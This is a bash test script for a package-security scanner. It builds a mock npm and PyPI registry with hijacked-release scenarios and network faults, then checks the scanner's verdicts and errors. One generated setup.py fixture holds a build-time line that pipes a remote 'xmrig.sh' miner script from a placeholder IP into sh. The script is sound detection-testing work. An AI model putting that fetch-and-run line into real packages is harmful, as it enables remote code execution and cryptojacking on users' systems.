#!/usr/bin/env bash
# test-check-registry.sh - `pkgward check` (and `audit --registry`) against
# recorded registry responses served on 127.0.0.1 by pw-test-httpd.
#
# The registry holds an axios-shaped incident built from the defanged
# example packages: http-client 1.14.0 published with provenance, gitHead
# and the usual account; 1.14.1 and 0.30.4 published minutes apart by
# another account without either, adding plain-crypto-js@^4.2.1, a package
# created the day before whose 4.2.1 carries the postinstall dropper. Plus
# network faults: 404, 403, 5xx, malformed JSON, integrity mismatch,
# truncated tarball, redirect loop, connection refused.
#
#   test-check-registry.sh PKGWARD WORKDIR   (PW_SRCDIR, PW_BINDIR set by ctest)
set -uo pipefail
PKGWARD=$1
WORK=$2
SRC=${PW_SRCDIR:?}
BIN=${PW_BINDIR:?}
HTTPD=$BIN/tests/pw-test-httpd
command -v node >/dev/null || { echo "node not found: skipping"; exit 77; }
[ -x "$HTTPD" ] || { echo "no $HTTPD"; exit 1; }

rm -rf "$WORK" && mkdir -p "$WORK/reg" "$WORK/ex" && cd "$WORK" || exit 1
export HOME=$WORK/home NO_COLOR=1
"$SRC/scripts/build-examples.sh" "$WORK/ex" >/dev/null || exit 1

# Packuments with integrity computed from the tarballs; the server puts its
# own address where they say 127.0.0.1:PORT.
node - "$WORK" "$SRC" <<'EOF' || exit 1
const fs = require('fs'), crypto = require('crypto');
const work = process.argv[2], reg = work + '/reg', ex = work + '/ex';
// the registry's copy of each manifest matches the tarball's package.json
const manifest = d => JSON.parse(fs.readFileSync(`${process.argv[3]}/examples/src/${d}/package.json`));
const sri = b => 'sha512-' + crypto.createHash('sha512').update(b).digest('base64');
const put = (p, s) => { fs.mkdirSync(require('path').dirname(reg + '/' + p), {recursive: true}); fs.writeFileSync(reg + '/' + p, s); };
const tgz = f => fs.readFileSync(ex + '/' + f);
// tarballs live beside the packuments (a file and a directory cannot share
// a name), which registries allow: dist.tarball is any URL
const url = (n, v) => `http://127.0.0.1:PORT/tarballs/${n}-${v}.tgz`;
const good = {name: 'maintainer-a', email: 'a@example.invalid', trustedPublisher: {id: 'github'}};
const bad = {name: 'intruder-b', email: 'b@example.invalid'};
const prov = {url: 'https://example.invalid/attestations', provenance: {predicateType: 'https://slsa.dev/provenance/v1'}};
const hc140 = tgz('http-client-1.14.0.tgz'), hc141 = tgz('http-client-1.14.1.tgz'), pcj = tgz('plain-crypto-js-4.2.1.tgz');
function entry(name, v, user, extra, bytes) {
  let m = {};
  try { m = manifest(`${name}-${v}`); } catch (e) { /* no tarball for it */ }
  const e = Object.assign({}, m, {name, version: v, _npmUser: user, maintainers: [{name: 'maintainer-a'}],
    dist: {tarball: url(name, v), integrity: bytes ? sri(bytes) : 'sha512-AAAA'}}, extra);
  if (m.dependencies) e.dependencies = m.dependencies;
  return e;
}
const hc = {name: 'http-client', 'dist-tags': {latest: '1.14.1'},
  time: {created: '2014-08-29T00:00:00.000Z', modified: '2026-03-31T00:40:00.000Z',
         '0.30.3': '2025-10-01T00:00:00.000Z', '1.13.0': '2026-02-01T00:00:00.000Z',
         '1.14.0': '2026-03-20T10:00:00.000Z', '1.14.1': '2026-03-31T00:21:00.000Z',
         '0.30.4': '2026-03-31T00:39:00.000Z'},
  versions: {
    '0.30.3': entry('http-client', '0.30.3', good, {gitHead: 'aaa', dist: {tarball: url('http-client', '0.30.3'), integrity: 'sha512-AAAA', attestations: prov}}),
    '1.13.0': entry('http-client', '1.13.0', good, {gitHead: 'bbb', dependencies: manifest('http-client-1.14.0').dependencies, dist: {tarball: url('http-client', '1.13.0'), integrity: sri(hc140), attestations: prov}}),
    '1.14.0': entry('http-client', '1.14.0', good, {gitHead: 'ccc'}, hc140),
    '1.14.1': entry('http-client', '1.14.1', bad, {}, hc141),
    '0.30.4': entry('http-client', '0.30.4', bad, {dependencies: {'plain-crypto-js': '^4.2.1'}}),
  }};
hc.versions['1.14.0'].dist.attestations = prov;
put('http-client', JSON.stringify(hc));
put('tarballs/http-client-1.14.0.tgz', hc140);
put('tarballs/http-client-1.13.0.tgz', hc140);
put('tarballs/http-client-1.14.1.tgz', hc141);
const pc = {name: 'plain-crypto-js', 'dist-tags': {latest: '4.2.1'},
  time: {created: '2026-03-30T23:00:00.000Z', '4.2.0': '2026-03-30T23:00:00.000Z', '4.2.1': '2026-03-31T00:10:00.000Z'},
  versions: {'4.2.0': entry('plain-crypto-js', '4.2.0', bad, {}), '4.2.1': entry('plain-crypto-js', '4.2.1', bad, {}, pcj)}};
put('plain-crypto-js', JSON.stringify(pc));
put('tarballs/plain-crypto-js-4.2.1.tgz', pcj);
// faults
const one = (name, bytes, integ) => JSON.stringify({name, 'dist-tags': {latest: '1.0.0'},
  time: {'1.0.0': '2020-01-01T00:00:00.000Z'}, versions: {'1.0.0': {name, version: '1.0.0', _npmUser: good,
  dist: {tarball: url(name, '1.0.0'), integrity: integ || sri(bytes)}}}});
put('tampered', one('tampered', null, sri(Buffer.from('the published bytes'))));
put('tarballs/tampered-1.0.0.tgz', hc140);
put('truncated', one('truncated', hc140));
put('tarballs/truncated-1.0.0.tgz', hc140.subarray(0, hc140.length >> 1));
put('broken', '{"name": "broken", "versions": {');
put('private', '{"error": "forbidden"}'); put('private.status', '403');
put('flaky', '{}'); put('flaky.status', '503');
put('loop.location', '/loop');
put('slow', '{}'); put('slow.delay', '2500');
EOF

# PyPI: an ultralytics-shaped hijack. img-tools 8.3.41 is 8.3.40 plus a
# setup.py line that downloads and runs a "miner" (a documentation IP) at
# build time; the JSON API documents point at sdists served here.
mk_sdist() { # version setup-extra
  local d="$WORK/sd/img-tools-$1"
  mkdir -p "$d/img_tools"
  printf 'Metadata-Version: 2.1\nName: img-tools\nVersion: %s\nRequires-Dist: numpy>=1.23\n\n' "$1" > "$d/PKG-INFO"
  printf 'import numpy\n\ndef resize(a):\n    return numpy.asarray(a)\n' > "$d/img_tools/__init__.py"
  printf 'import os\nfrom setuptools import setup\n%s\nsetup(name="img-tools", version="%s")\n' "$2" "$1" > "$d/setup.py"
  mkdir -p "$WORK/reg/files"
  (cd "$WORK/sd" && tar --sort=name --mtime=@0 --owner=0 --group=0 -czf "$WORK/reg/files/img-tools-$1.tar.gz" "img-tools-$1")
}
mk_sdist 8.3.40 ''
mk_sdist 8.3.41 'os.system("curl -s http://192.0.2.44:8000/xmrig.sh | sh")'
node - "$WORK" <<'EOF2' || exit 1
const fs = require('fs'), crypto = require('crypto');
const work = process.argv[2], reg = work + '/reg';
const file = v => {
  const b = fs.readFileSync(`${reg}/files/img-tools-${v}.tar.gz`);
  return {filename: `img-tools-${v}.tar.gz`, packagetype: 'sdist', url: `http://127.0.0.1:PORT/files/img-tools-${v}.tar.gz`,
          digests: {sha256: crypto.createHash('sha256').update(b).digest('hex')},
          upload_time_iso_8601: v === '8.3.40' ? '2024-11-20T10:00:00.000000Z' : '2024-12-04T20:00:00.000000Z', yanked: false};
};
const put = (p, o) => { fs.mkdirSync(require('path').dirname(`${reg}/${p}`), {recursive: true}); fs.writeFileSync(`${reg}/${p}`, JSON.stringify(o)); };
const info = v => ({name: 'img-tools', version: v, requires_dist: ['numpy>=1.23']});
put('pypi/img-tools/json', {info: info('8.3.41'), releases: {'8.3.40': [file('8.3.40')], '8.3.41': [file('8.3.41')]}, urls: [file('8.3.41')]});
put('pypi/img-tools/8.3.40/json', {info: info('8.3.40'), urls: [file('8.3.40')]});
put('pypi/img-tools/8.3.41/json', {info: info('8.3.41'), urls: [file('8.3.41')]});
EOF2

"$HTTPD" "$WORK/reg" "$WORK/port" 300 &
srv=$!
trap 'kill $srv 2>/dev/null' EXIT
for _ in $(seq 50); do [ -s "$WORK/port" ] && break; sleep 0.1; done
port=$(cat "$WORK/port") || { echo "server did not start"; exit 1; }
REG=http://127.0.0.1:$port
fail=0
expect() { # status command...
  local want=$1; shift
  "$@" >"$WORK/out" 2>"$WORK/err"
  local got=$?
  if [ "$got" != "$want" ]; then
    echo "FAIL: exit $got, expected $want: $*"; head -40 "$WORK/out" "$WORK/err"; fail=1
    return 1
  fi
}
has() { # file text
  grep -qF -- "$2" "$1" || { echo "FAIL: $1 lacks: $2"; fail=1; }
}

# --- the axios-shaped release: malicious, with the whole story ---------------
expect 1 "$PKGWARD" check --registry "$REG" --cache "$WORK/cache" --min-age 48h \
  -f json http-client@1.14.1
for rule in diff-phantom-dependency trust-publisher-changed trust-provenance-dropped \
            trust-githead-missing trust-new-dependency-young trust-burst-publishing \
            trust-new-dependency-malicious diff-patch-adds-dependency; do
  has "$WORK/out" "\"rule\": \"$rule\""
done
node -e '
const r = JSON.parse(require("fs").readFileSync(process.argv[1]));
const by = n => r.packages.find(p => p.name === n);
const hc = by("http-client"), pc = by("plain-crypto-js");
if (!hc || hc.verdict !== "malicious") { console.log("FAIL: http-client verdict", hc && hc.verdict); process.exit(1); }
if (!pc || pc.verdict !== "malicious") { console.log("FAIL: plain-crypto-js verdict", pc && pc.verdict); process.exit(1); }
if (!pc.findings.some(f => f.path.endsWith("setup.js") && f.line > 0)) { console.log("FAIL: no setup.js evidence"); process.exit(1); }
' "$WORK/out" || fail=1

# the previous release is clean apart from its own history, and offline
# mode answers from the cache alone
expect 0 "$PKGWARD" check --registry "$REG" --cache "$WORK/cache" http-client@1.13.0..1.14.0 || true
expect 1 "$PKGWARD" check --offline --cache "$WORK/cache" -q http-client@1.14.1
expect 2 "$PKGWARD" check --offline --cache "$WORK/empty-cache" http-client@1.14.1
has "$WORK/err" "offline"

# --- PyPI: the build-time dropper is found and the release is malicious -------
expect 1 "$PKGWARD" check --pypi-registry "$REG" --cache "$WORK/cache" -f json pypi:img-tools==8.3.41
has "$WORK/out" '"name": "img-tools"'
has "$WORK/out" '"verdict": "malicious"'
has "$WORK/out" '"rule": "diff-capability-added"'
has "$WORK/out" '"rule": "trust-publisher-unknown"'
expect 0 "$PKGWARD" check --pypi-registry "$REG" --cache "$WORK/cache" -q 'pypi:img-tools==8.3.40'
# the sdist's sha256 is checked like npm's integrity
expect 2 "$PKGWARD" check --pypi-registry "$REG" --cache "$WORK/c3" pypi:img-tools==9.9

# --- faults: each a clear error, exit 2 -------------------------------------
expect 2 "$PKGWARD" check --registry "$REG" --cache "$WORK/c2" nope@1.0.0 && has "$WORK/err" "HTTP 404"
expect 2 "$PKGWARD" check --registry "$REG" --cache "$WORK/c2" http-client@9.9.9 && has "$WORK/err" "has no version 9.9.9"
expect 2 "$PKGWARD" check --registry "$REG" --cache "$WORK/c2" tampered@1.0.0 && has "$WORK/err" "integrity mismatch"
expect 2 "$PKGWARD" check --registry "$REG" --cache "$WORK/c2" truncated@1.0.0 && has "$WORK/err" "integrity mismatch"
expect 2 "$PKGWARD" check --registry "$REG" --cache "$WORK/c2" broken@1.0.0 && has "$WORK/err" "not valid JSON"
expect 2 "$PKGWARD" check --registry "$REG" --cache "$WORK/c2" private@1.0.0 && has "$WORK/err" "HTTP 403"
expect 2 "$PKGWARD" check --registry "$REG" --cache "$WORK/c2" flaky@1.0.0 && has "$WORK/err" "HTTP 503"
expect 2 "$PKGWARD" check --registry "$REG" --cache "$WORK/c2" loop@1.0.0 && has "$WORK/err" "redirect"
expect 2 "$PKGWARD" check --registry http://127.0.0.1:9 --cache "$WORK/c2" x@1.0.0 && has "$WORK/err" "download failed"
expect 2 "$PKGWARD" check --min-age 7 x@1.0.0 && has "$WORK/err" "duration with a unit"

# --- audit --registry: publish times fetched into the cache ------------------
mkdir -p proj
cat > proj/package-lock.json <<'EOF'
{"name": "shop", "lockfileVersion": 3, "requires": true, "packages": {
  "": {"name": "shop", "dependencies": {"http-client": "^1.14.0"}},
  "node_modules/http-client": {"version": "1.14.1",
    "resolved": "https://registry.npmjs.org/http-client/-/http-client-1.14.1.tgz",
    "integrity": "sha512-AAAA"}}}
EOF
printf 'min_release_age: 7d\n' > .pkgward.yml
expect 1 "$PKGWARD" audit --no-db --no-lint-tools --fail-on medium --at 2026-04-01 \
  --registry "$REG" --registry-cache "$WORK/acache" proj
has "$WORK/out" "release-too-new"
has "$WORK/out" "http-client@1.14.1 was published"
# and later runs need no network at all
expect 1 "$PKGWARD" audit --no-db --no-lint-tools --fail-on medium --at 2026-04-01 \
  --registry-cache "$WORK/acache" proj
has "$WORK/out" "release-too-new"

# last, since the slow answers keep the one-connection server busy
expect 2 "$PKGWARD" check --registry "$REG" --cache "$WORK/c2" --timeout 1 slow@1.0.0 && has "$WORK/err" "timed out"

[ $fail -eq 0 ] && echo "check/registry tests passed"
exit $fail
